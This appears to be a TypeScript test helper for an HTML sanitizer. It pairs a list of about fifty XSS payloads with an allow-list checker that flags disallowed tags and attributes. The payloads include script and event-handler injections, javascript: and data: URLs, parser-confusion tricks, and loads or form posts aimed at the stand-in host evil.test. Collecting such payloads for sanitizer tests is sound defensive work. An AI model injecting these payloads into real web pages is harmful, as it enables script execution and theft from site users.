/** Ways in which markup tries to run a script, load from strangers or dress up as the page. */
export const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://a.test" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="//evil.test">x</a>',
  '<p onmouseover=alert(1) style="background:url(javascript:alert(1))">x</p>',
  '<span style="font-size:18px;background:url(//evil.test/x)">x</span>',
  '<span class="fs-18 fixed inset-0 z-30" id="root" name="root">x</span>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="//evil.test"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="//evil.test/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="//evil.test/x.css">',
  '<style>@import "//evil.test/x.css";</style>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<textarea><script>alert(1)</script></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<img src="https://evil.test/pixel.png" srcset="https://evil.test/p.png 2x">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<<script>alert(1)//<</script>',
  '<b/onclick=alert(1)>x',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
] as const;

const ELEMENTS = /^(?:p|div|br|h[1-3]|blockquote|ul|ol|li|strong|em|u|s|a|span|img)$/;
const ATTRIBUTES: readonly RegExp[] = [
  /^a href="(?:https?:\/\/|mailto:)[^"<>]*"$/,
  /^a target="_blank"$/,
  /^a rel="noopener noreferrer"$/,
  /^ol start="\d{1,4}"$/,
  /^span class="fs-\d{1,2}"$/,
  /^img src="\/api\/v1\/files\/[0-9a-f]{64}\.(?:jpg|png|webp)"$/,
  /^img alt="[^"<>]*"$/,
  /^img (?:width|height)="\d{1,4}"$/,
];

/** Every tag and attribute of cleaned markup that has no business there, read by a grammar stricter than any browser's. */
export function findDangerousMarkup(html: string): string[] {
  const found: string[] = [];
  const rest = html.replaceAll(/<(\/?)([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)( \/)?>/g, (tag, _, name: string, attributes: string) => {
    if (!ELEMENTS.test(name)) found.push(tag);
    for (const [attribute] of attributes.matchAll(/[a-z]+="[^"]*"/g)) {
      if (!ATTRIBUTES.some((allowed) => allowed.test(`${name} ${attribute}`))) found.push(`${name} ${attribute}`);
    }
    return '';
  });
  if (rest.includes('<')) found.push(rest);
  return found;
}
